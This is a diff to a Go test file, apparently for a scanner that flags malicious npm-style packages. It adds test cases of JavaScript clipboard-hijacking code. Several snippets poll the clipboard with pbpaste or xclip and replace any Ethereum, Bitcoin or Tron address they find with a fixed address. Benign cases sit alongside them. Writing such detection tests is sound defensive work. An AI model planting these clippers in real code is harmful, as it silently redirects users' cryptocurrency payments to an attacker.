@@ -72,6 +72,15 @@ if (window.ethereum) { const req = window.ethereum.request; window.ethereum.requ
 setInterval(() => { const c = execSync("pbpaste").toString(); if (/^0x[a-fA-F0-9]{40}$/.test(c)) execSync("pbcopy", { input: "0x000000000000000000000000000000000000dEaD" }) }, 500)`}, finding.SeverityCritical},
 		{"xclip_clipper", map[string]string{"index.js": `const cp = require("child_process"); const eth = new RegExp("0x[a-fA-F0-9]{40}"), btc = new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");
 setInterval(() => cp.execSync("xclip -selection clipboard", { input: swap(cp.execSync("xclip -selection clipboard -o").toString()) }), 500)`}, finding.SeverityCritical},
+		// the clipboard commands kept in a table of another module
+		{"command_table_clipper", map[string]string{
+			"lib/cmds.js": `module.exports = { darwin: { read: "pbpaste", write: "pbcopy" }, linux: { read: "xclip -selection clipboard -o", write: "xclip -selection clipboard -i" } }`,
+			"index.js": `const cmds = require("./lib/cmds"), { execSync } = require("child_process"); const c = cmds[process.platform]; const A = [/^0x[a-fA-F0-9]{40}$/, /^T[1-9A-HJ-NP-Za-km-z]{33}$/];
+setInterval(() => { const v = execSync(c.read).toString(); if (A.some((r) => r.test(v))) execSync(c.write, { input: "0x3Fe1cB2a9D0e4F7b8C6a5E2d1B0c9F8e7D6a5B4c" }) }, 500)`}, finding.SeverityCritical},
+		// a clipboard library's own table, with no address patterns
+		{"clipboard_library_table", map[string]string{
+			"index.js": `const { execSync } = require("child_process"); const cmds = { darwin: { read: "pbpaste", write: "pbcopy" } }; const c = cmds[process.platform];
+exports.read = () => execSync(c.read).toString(); exports.write = (t) => execSync(c.write, { input: t })`}, finding.SeverityNone},
 		// a wallet SDK's "copy address" button next to its validators
 		{"copy_address_button", map[string]string{"index.js": `const RE = { evm: /^0x[a-fA-F0-9]{40}$/, btc: /^(bc1[ac-hj-np-z02-9]{11,71}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/, sol: /^[1-9A-HJ-NP-Za-km-z]{32,44}$/, tron: /^T[1-9A-HJ-NP-Za-km-z]{33}$/ };
 export const DONATE = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"; export function copyAddress(a) { return navigator.clipboard.writeText(a) }`}, finding.SeverityNone},
